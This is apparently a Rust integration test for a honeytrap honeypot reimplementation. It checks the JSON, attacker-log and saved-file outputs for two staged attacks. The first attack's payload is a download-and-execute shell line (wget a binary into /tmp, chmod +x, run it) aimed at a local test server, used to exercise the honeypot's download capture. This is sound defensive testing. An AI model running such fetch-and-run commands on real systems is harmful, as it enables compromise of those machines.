//! End-to-end: the original honeytrap's outputs from the real binary started with
//! a `honeytrap.conf` in the original syntax that loads `plugin-logJSON`,
//! `plugin-logAttacker`, `plugin-SaveFile` and `plugin-httpDownload`. Two real
//! attacks: one in normal mode whose payload makes the HTTP downloader fetch a file
//! from a server in the attacker namespace, one on a proxy-map port relayed to a
//! target service. Each output is checked byte for byte against the line built here
//! from what the attack was (addresses, ports and times taken from the native
//! event), including the download (`download_count`, `downloads`) and the proxy
//! connection (`proxy_connection`), and SaveFile's attack and download files.

#[allow(unused_imports)] // not every helper the harness re-exports is used here
mod support;

use md5::Digest as _;
use serde_json::Value;
use std::path::Path;
use std::time::Duration;
use support::clients::{nc_once, wait_listening};
use support::daemon::wait_until;
use support::{require_root, Daemon, NetPair};

/// Where the download server lives: an address the downloader's address checks
/// allow (not private, not documentation), put on the attacker namespace's
/// loopback and routed to from the honeypot namespace only.
const SERVER: &str = "192.0.0.77";
const NORMAL_PORT: u16 = 21201;
const PROXY_PORT: u16 = 21202;
const TARGET_PORT: u16 = 21203;

fn md5(d: &[u8]) -> String {
    hex::encode(md5::Md5::digest(d))
}

fn sha512(d: &[u8]) -> String {
    hex::encode(sha2::Sha512::digest(d))
}

fn ip(args: &[&str]) {
    let out = std::process::Command::new("ip")
        .args(args)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "ip {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// json-c's escaping of a string as T-Pot's logJSON wrote it (`/` as `\/`).
fn jc(s: &str) -> String {
    serde_json::to_string(s).unwrap().replace('/', "\\/")
}

/// A `payload` object in the fork's layout.
fn payload_obj(data: &[u8]) -> String {
    format!(
        "{{ \"md5_hash\": \"{}\", \"sha512_hash\": \"{}\", \"length\": {}, \"data_hex\": \"{}\" }}",
        md5(data),
        sha512(data),
        data.len(),
        hex::encode(data)
    )
}

/// A connection object in the fork's layout.
fn conn(proto: &str, rip: &str, rport: u64, lip: &str, lport: u64, data: &[u8]) -> String {
    format!(
        "{{ \"protocol\": \"{proto}\", \"remote_ip\": \"{rip}\", \"remote_port\": {rport}, \"local_ip\": \"{lip}\", \"local_port\": {lport}, \"payload\": {} }}",
        payload_obj(data)
    )
}

fn time(rfc3339: &Value) -> chrono::DateTime<chrono::Utc> {
    chrono::DateTime::parse_from_rfc3339(rfc3339.as_str().unwrap())
        .unwrap()
        .with_timezone(&chrono::Utc)
}

fn secs(t: chrono::DateTime<chrono::Utc>) -> String {
    t.format("%Y-%m-%dT%H:%M:%SZ").to_string()
}

/// The analysed native event whose payload is `data`.
fn event(d: &Daemon, data: &[u8]) -> Value {
    let mut found = None;
    wait_until(Duration::from_secs(40), || {
        found = d.events().into_iter().find(|e| {
            e["honeytrap"]["virtual"] != true
                && support::clients::payload(e) == data
                && e["honeytrap"]["analysis"]["done"] == true
        });
        found.is_some()
    });
    found.unwrap_or_else(|| panic!("no analysed event for {data:?}:\n{}", d.log()))
}

/// The line of `file` that contains `needle`, waited for.
fn line_with(d: &Daemon, file: &Path, needle: &str) -> String {
    let mut found = None;
    wait_until(Duration::from_secs(15), || {
        let text = std::fs::read_to_string(file).unwrap_or_default();
        found = text
            .lines()
            .find(|l| l.contains(needle))
            .map(str::to_string);
        found.is_some()
    });
    found.unwrap_or_else(|| {
        panic!(
            "no line with {needle} in {}:\n{}\n{}",
            file.display(),
            std::fs::read_to_string(file).unwrap_or_default(),
            d.log()
        )
    })
}

#[test]
fn logjson_logattacker_and_savefile_from_an_original_config() {
    if !require_root() {
        return;
    }
    let net = NetPair::new("legout");
    ip(&[
        "-n",
        &net.attacker,
        "addr",
        "add",
        &format!("{SERVER}/32"),
        "dev",
        "lo",
    ]);
    ip(&[
        "-n",
        &net.honeypot,
        "route",
        "add",
        &format!("{SERVER}/32"),
        "via",
        &net.at_v4,
    ]);
    // The file the attack makes honeytrap download.
    let files = tempfile::tempdir().unwrap();
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(files.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let sample: Vec<u8> = (0..3000u32).map(|i| (i * 7 + i / 13) as u8).collect();
    std::fs::write(files.path().join("mal.bin"), &sample).unwrap();
    let _http = net.background_attacker(&format!(
        "cd {} && exec python3 -m http.server 8000 --bind {SERVER} 2>/dev/null",
        files.path().display()
    ));
    wait_listening(&net.attacker, "tcp", 8000, 1);
    // The proxy map's target reads a line, answers with one and closes (reading
    // first: socat writing to an exited child could end before the answer).
    let target_reply = b"proxied target\n";
    let _target = net.background_attacker(&format!(
        "exec socat TCP4-LISTEN:{TARGET_PORT},bind={},reuseaddr,fork SYSTEM:'read l; echo proxied target'",
        net.at_v4
    ));
    wait_listening(&net.attacker, "tcp", TARGET_PORT, 1);

    let conf = format!(
        "/* honeytrap.conf in the original syntax */\n\
         portconf_default = \"ignore\"\n\
         portconf = {{\n\
           normal = {{ protocol = \"tcp\" port = \"{NORMAL_PORT}\" }}\n\
           proxy = {{ back = {{ protocol = \"tcp\" port = \"{PROXY_PORT}\" target_host = \"{at}\" target_port = \"{TARGET_PORT}\" }} }}\n\
         }}\n\
         plugin-httpDownload = \"\"\n\
         plugin-SaveFile = {{\n\tattacks_dir = \"@DATA@/attacks\"\n\tdownloads_dir = \"@DATA@/downloads\"\n}}\n\
         plugin-logAttacker = {{ logfile = \"@DATA@/log/attacker.log\" }}\n\
         plugin-logJSON = {{ logfile = \"@DATA@/log/attackers.json\" }}\n",
        at = net.at_v4
    );
    let d = Daemon::start(&net, &conf);
    let hp = net.hp_v4.clone();
    // The monitor is `auto` (sniff as root): the first try is refused, a retry caught.
    for port in [NORMAL_PORT, PROXY_PORT] {
        let caught = wait_until(Duration::from_secs(10), || {
            net.attack("nc", &["-z", "-w", "1", &hp, &port.to_string()], b"", 4)
                .status
                .success()
        });
        assert!(caught, "{port} never accepted:\n{}", d.log());
    }

    // 1. Normal mode, with a download.
    let url = format!("http://{SERVER}:8000/mal.bin");
    let attack1 = format!("cd /tmp; wget {url} -O m; chmod +x m; ./m\n").into_bytes();
    nc_once(&net, &hp, NORMAL_PORT, &attack1);
    let e1 = event(&d, &attack1);
    let dls = e1["honeytrap"]["downloads"].as_array().unwrap();
    assert_eq!(dls.len(), 1, "{e1:#}");
    assert_eq!(dls[0]["url"], url.as_str());
    assert_eq!(dls[0]["size"], sample.len(), "{e1:#}");
    // 2. Proxy mode: relayed to the target, which answers.
    let attack2 = b"proxy me\n".to_vec();
    // Without -N: the attacker keeps its side open until the target has answered
    // and closed (a half-close could race the target's reply).
    let out = net.attack(
        "nc",
        &["-w", "3", &hp, &PROXY_PORT.to_string()],
        &attack2,
        8,
    );
    let e2 = event(&d, &attack2);
    assert_eq!(out.stdout, target_reply, "{e2:#}\n{}", d.log());
    assert_eq!(e2["honeytrap"]["relay"]["connected"], true, "{e2:#}");

    let log_dir = d.data().join("log");
    let sport = |e: &Value| e["source"]["port"].as_u64().unwrap();

    // logJSON: the whole line, byte for byte.
    let json_file = log_dir.join("attackers.json");
    let line1 = line_with(&d, &json_file, &hex::encode(&attack1));
    let (s1, t1) = (time(&e1["event"]["start"]), time(&e1["event"]["end"]));
    let empty = conn("", "0.0.0.0", 0, "0.0.0.0", 0, b"");
    let want1 = format!(
        "{{ \"is_virtual\": false, \"@timestamp\": \"{s}\", \"start_time\": \"{s}\", \"end_time\": \"{e}\", \
\"attack_connection\": {a}, \"proxy_connection\": {empty}, \"operation_mode\": 1, \
\"download_count\": 1, \"download_tries\": 1, \"downloads\": {{ \"protocol_0\": \"tcp\", \
\"remote_ip_0\": \"{SERVER}\", \"remote_port_0\": 8000, \"local_ip_0\": \"{hp}\", \"local_port_0\": {NORMAL_PORT}, \
\"type_0\": \"http\", \"username_0\": \"\", \"password_0\": \"\", \"uri_0\": {uri}, \"filename_0\": \"mal.bin\", \
\"payload_0\": {p} }} }}",
        s = secs(s1),
        e = secs(t1),
        a = conn("tcp", &net.at_v4, sport(&e1), &hp, NORMAL_PORT.into(), &attack1),
        uri = jc(&url),
        p = payload_obj(&sample),
    );
    assert_eq!(line1, want1);
    let line2 = line_with(&d, &json_file, &hex::encode(&attack2));
    let relay_local = &e2["honeytrap"]["relay"]["local"];
    let want2 = format!(
        "{{ \"is_virtual\": false, \"@timestamp\": \"{s}\", \"start_time\": \"{s}\", \"end_time\": \"{e}\", \
\"attack_connection\": {a}, \"proxy_connection\": {p}, \"operation_mode\": 8, \
\"download_count\": 0, \"download_tries\": 0, \"downloads\": {{ }} }}",
        s = secs(time(&e2["event"]["start"])),
        e = secs(time(&e2["event"]["end"])),
        a = conn("tcp", &net.at_v4, sport(&e2), &hp, PROXY_PORT.into(), &attack2),
        p = conn(
            "tcp",
            &net.at_v4,
            TARGET_PORT.into(),
            relay_local["ip"].as_str().unwrap(),
            relay_local["port"].as_u64().unwrap(),
            target_reply
        ),
    );
    assert_eq!(line2, want2);

    // logAttacker: the original's line.
    let attacker_file = log_dir.join("attacker.log");
    let want_line = |e: &Value, port: u16, data: &[u8]| {
        let end = time(&e["event"]["end"]);
        format!(
            "[{}:{} GMT] tcp {}:{} -> {hp}:{port} {} {} ({} bytes)",
            end.format("%Y-%m-%d %H:%M:%S"),
            end.timestamp_subsec_micros(),
            net.at_v4,
            sport(e),
            md5(data),
            sha512(data),
            data.len()
        )
    };
    assert_eq!(
        line_with(&d, &attacker_file, &md5(&attack1)),
        want_line(&e1, NORMAL_PORT, &attack1)
    );
    assert_eq!(
        line_with(&d, &attacker_file, &md5(&attack2)),
        want_line(&e2, PROXY_PORT, &attack2)
    );

    // SaveFile: the attack strings and the download, with the original's names.
    let attacks_dir = d.data().join("attacks");
    let saved = |port: u16, data: &[u8], end: &Value| -> u64 {
        let date = time(end)
            .with_timezone(&chrono::Local)
            .format("%Y-%m-%d")
            .to_string();
        let prefix = format!("from_port_{port}-tcp_");
        let mut found = None;
        wait_until(Duration::from_secs(15), || {
            found = std::fs::read_dir(&attacks_dir).ok().and_then(|r| {
                r.flatten().find_map(|f| {
                    let name = f.file_name().to_string_lossy().into_owned();
                    let n = name
                        .strip_prefix(&prefix)?
                        .strip_suffix(&format!("_{date}"))?;
                    let n: u64 = n.parse().ok()?;
                    (std::fs::read(f.path()).ok()? == data).then_some((n, f.path()))
                })
            });
            found.is_some()
        });
        let (n, path) = found.unwrap_or_else(|| {
            panic!("no {prefix}<n>_{date} with the attack string:\n{}", d.log())
        });
        use std::os::unix::fs::PermissionsExt;
        assert_eq!(path.metadata().unwrap().permissions().mode() & 0o777, 0o644);
        n
    };
    let n1 = saved(NORMAL_PORT, &attack1, &e1["event"]["end"]);
    let n2 = saved(PROXY_PORT, &attack2, &e2["event"]["end"]);
    // <n> counts up from honeytrap's process id (the probes carried no data).
    assert_eq!(n1, d.pid() as u64, "{}", d.log());
    assert_eq!(n2, n1 + 1);
    let download = d
        .data()
        .join("downloads")
        .join(format!("{}-mal.bin", md5(&sample)));
    assert!(
        wait_until(Duration::from_secs(10), || download.exists()),
        "{} missing:\n{}",
        download.display(),
        d.log()
    );
    assert_eq!(std::fs::read(&download).unwrap(), sample);
}
